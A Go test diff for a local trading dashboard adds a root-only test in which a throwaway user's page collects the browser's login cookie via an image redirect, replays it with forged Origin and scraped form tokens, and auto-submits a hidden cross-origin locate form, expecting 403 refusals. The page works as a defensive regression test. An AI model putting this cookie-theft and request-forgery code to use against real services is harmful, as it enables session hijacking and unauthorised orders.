@@ -2,13 +2,22 @@ package dashboard
 
 import (
 	"context"
+	"errors"
 	"fmt"
+	"html"
+	"io"
+	"net"
+	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"os"
+	"os/exec"
+	"os/user"
 	"path/filepath"
 	"slices"
 	"strconv"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -20,7 +29,9 @@ import (
 	"github.com/locatorhq/locator/brokerclient"
 	"github.com/locatorhq/locator/brokercode"
 	"github.com/locatorhq/locator/internal/browsertest"
+	"github.com/locatorhq/locator/internal/store"
 	"github.com/locatorhq/locator/internal/wire"
+	"github.com/locatorhq/locator/simtest"
 	"github.com/locatorhq/locator/states"
 	"github.com/locatorhq/locator/workflow"
 )
@@ -425,4 +436,214 @@ func TestBrowserApprovesFloatPrice(t *testing.T) {
 			t.Errorf("browser: the answered offer stays on the page: %v", err)
 		}
 	}
+}
+
+// A page of another local user on another 127.0.0.1 port gets nothing of
+// the dashboard and places nothing, in a real Chromium logged in to it.
+// The other user (a throwaway one, peerUser) serves a page from this test
+// binary (collectAndReplay): an <img> whose address redirects to its own
+// collector, which the browser hands the login cookie (cookies are not
+// kept apart by port), then replays it as curl would, from that user:
+// GET / and POST /locate with the dashboard's Origin (and the page's form
+// token, had the page been served). Both are refused 403 as another
+// user's. The page also posts a locate form to the dashboard from the
+// browser itself (same site, another origin), which carries the cookie and
+// comes from the owner's user, but neither the page's origin nor its form
+// token. The browser's login still serves its own page, and nothing was
+// placed: no locate workflow in the store and no quote in the simulator's
+// log (spec "Short locates": a locate begins with POST .../locates/quote).
+// Without the user rule the replayed page gives its form token away and
+// the replayed locate is quoted.
+func TestBrowserOtherUserGetsNothing(t *testing.T) {
+	t.Parallel()
+	if os.Getuid() != 0 {
+		t.Skip("needs root: the other user is made with useradd and its process started as that user (exec with SysProcAttr.Credential)")
+	}
+	uid, gid := peerUser(t)
+	ctx := browsertest.New(t)
+	// The clock stands still: nothing here waits on it, and the login
+	// lasts the test however slow the machine.
+	const token = "tok-other-user"
+	b := setup(t, setupOpt{token: token, clock: func(*simtest.Bundle) {}})
+	base, addr := b.start(t)
+	out, ready := asUser(t, uid, gid, collectEnv+"="+base)
+	page, ok := strings.CutPrefix(ready, "ready ")
+	if !ok {
+		t.Fatalf("the other user's page said %q", ready)
+	}
+	if err := chromedp.Do(ctx,
+		chromedp.Navigate(base+"/?token="+token),
+		chromedp.WaitVisible(chromedp.CSS(".locate-form")),
+		chromedp.Navigate(page),
+	); err != nil {
+		t.Fatalf("browser: %v", err)
+	}
+	// What the other user's process saw and was answered, one line each
+	// (a minute of wall time is a hang guard only).
+	lines := make(chan string)
+	go func() {
+		defer close(lines)
+		for {
+			line, err := out.ReadString('\n')
+			if err != nil {
+				return
+			}
+			lines <- strings.TrimSuffix(line, "\n")
+		}
+	}()
+	said := map[string]string{}
+	for len(said) < 4 {
+		select {
+		case line, ok := <-lines:
+			if !ok {
+				t.Fatalf("the other user's page ended after %v", said)
+			}
+			what, result, _ := strings.Cut(line, ": ")
+			said[what] = result
+		case <-time.After(time.Minute):
+			t.Fatalf("the other user's page said only %v in a minute", said)
+		}
+	}
+	t.Logf("the other user's page: %q", said)
+	cookie := fmt.Sprintf("%s_%d", cookieBase, addr.(*net.TCPAddr).Port)
+	if !slices.Contains(strings.Split(said["collected"], ","), cookie) {
+		t.Errorf("the other user's page collected %q, not the login cookie %s: the attack this test replays did not happen", said["collected"], cookie)
+	}
+	for _, what := range []string{"replay GET /", "replay POST /locate"} {
+		if !strings.HasPrefix(said[what], "403 ") || !strings.Contains(said[what], "answers only the user running it") {
+			t.Errorf("%s from the other user: %q, want 403 saying why", what, said[what])
+		}
+	}
+	if said["form posted"] != "from the browser" {
+		t.Errorf("the page's form: %q", said["form posted"])
+	}
+	if err := chromedp.Do(ctx, chromedp.Navigate(base+"/"), chromedp.WaitVisible(chromedp.CSS(".locate-form"))); err != nil {
+		t.Errorf("browser: the owner's page after the attack: %v", err)
+	}
+	ws, err := b.store.List(t.Context(), store.Filter{Account: "LV100001", Kind: states.Locate})
+	if err != nil || len(ws) != 0 {
+		t.Errorf("locate workflows after the attack: %d %v, want none", len(ws), err)
+	}
+	for _, r := range b.sim.Sim.Requests() {
+		if r.Method == http.MethodPost && r.Path == "/v1/api/accounts/locates/quote" {
+			t.Errorf("a quote reached the simulator: %s", r.Body)
+		}
+	}
+}
+
+// peerUserName is the throwaway user the tests of another local user run
+// a process as.
+const peerUserName = "locator-peer"
+
+// peerUser is the uid and gid of peerUserName, made with useradd (a system
+// user, no home, no login shell) when it is missing, and kept for the next
+// run. Root only.
+func peerUser(t *testing.T) (uid, gid uint32) {
+	t.Helper()
+	u, err := user.Lookup(peerUserName)
+	if _, unknown := errors.AsType[user.UnknownUserError](err); unknown {
+		add := exec.Command("useradd", "--system", "--user-group", "--no-create-home", "--shell", "/usr/sbin/nologin", peerUserName)
+		out, addErr := add.CombinedOutput()
+		// Another test may have made it meanwhile: look again either way.
+		if u, err = user.Lookup(peerUserName); err != nil {
+			t.Fatalf("useradd %s: %v: %s", peerUserName, addErr, out)
+		}
+	}
+	if err != nil {
+		t.Fatal(err)
+	}
+	id, err := strconv.ParseUint(u.Uid, 10, 32)
+	if err != nil {
+		t.Fatal(err)
+	}
+	group, err := strconv.ParseUint(u.Gid, 10, 32)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return uint32(id), uint32(group)
+}
+
+// collectEnv, set to the dashboard's base address, makes this test binary
+// the other user's page (collectAndReplay).
+const collectEnv = "LOCATOR_TEST_COLLECT_COOKIE"
+
+// collectAndReplay serves, on a port of 127.0.0.1, a page that has the
+// browser visiting it hand over the cookies it holds for 127.0.0.1 (an
+// <img> redirected to /collect) and post a locate form to the dashboard;
+// it says "ready ADDRESS", then one line per thing seen: the names of the
+// cookies collected (never their values), what the dashboard answered the
+// cookies replayed from here (GET /, and POST /locate with the dashboard's
+// Origin and any form token the page gave away, as curl would), and that
+// the form was posted. It serves until its stdin closes.
+func collectAndReplay(dashboard string) {
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		os.Exit(1)
+	}
+	var said sync.Mutex
+	say := func(what, result string) {
+		said.Lock()
+		defer said.Unlock()
+		result = strings.Join(strings.Fields(result), " ")
+		fmt.Printf("%s: %.300s\n", what, result)
+	}
+	form := url.Values{"account": {"LV100001"}, "symbols": {testSymbol}, "quantity": {"500"}, "cap": {"0.05"}}
+	var replay sync.Once
+	mux := http.NewServeMux()
+	mux.HandleFunc("GET /{$}", func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprintf(w, `<!doctype html><title>pictures</title><img src="/bounce" alt="">
+<iframe name="sink"></iframe><form method="post" action="%s/locate" target="sink">`, html.EscapeString(dashboard))
+		for k, v := range form {
+			fmt.Fprintf(w, `<input type="hidden" name="%s" value="%s">`, html.EscapeString(k), html.EscapeString(v[0]))
+		}
+		fmt.Fprint(w, `</form><script>
+document.querySelector("iframe").addEventListener("load", () => fetch("/posted"), {once: true});
+document.forms[0].submit();
+</script>`)
+	})
+	mux.HandleFunc("GET /bounce", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/collect", http.StatusFound) })
+	mux.HandleFunc("GET /collect", func(w http.ResponseWriter, r *http.Request) {
+		replay.Do(func() {
+			var names []string
+			for _, c := range r.Cookies() {
+				names = append(names, c.Name)
+			}
+			say("collected", strings.Join(names, ","))
+			cookies := r.Header.Get("Cookie")
+			page := replayed(http.MethodGet, dashboard+"/", cookies, dashboard, nil)
+			say("replay GET /", page)
+			if m := formToken.FindStringSubmatch(page); m != nil {
+				form.Set(csrfField, m[1]) // what a page served to the cookie would give away
+			}
+			say("replay POST /locate", replayed(http.MethodPost, dashboard+"/locate", cookies, dashboard, form))
+		})
+		w.WriteHeader(http.StatusNoContent)
+	})
+	mux.HandleFunc("GET /posted", func(w http.ResponseWriter, r *http.Request) { say("form posted", "from the browser") })
+	go http.Serve(ln, mux)
+	fmt.Printf("ready http://%s/\n", ln.Addr())
+	io.Copy(io.Discard, os.Stdin)
+}
+
+// replayed sends one request to target with the cookies and origin given
+// (and form as its body), as curl would, and returns its status and its
+// answer (the first 64 KiB).
+func replayed(method, target, cookies, origin string, form url.Values) string {
+	req, err := http.NewRequest(method, target, strings.NewReader(form.Encode()))
+	if err != nil {
+		return err.Error()
+	}
+	req.Header.Set("Cookie", cookies)
+	req.Header.Set("Origin", origin)
+	if form != nil {
+		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	}
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		return err.Error()
+	}
+	defer resp.Body.Close()
+	body, _ := io.ReadAll(io.LimitReader(resp.Body, 64<<10))
+	return strconv.Itoa(resp.StatusCode) + " " + string(body)
 }
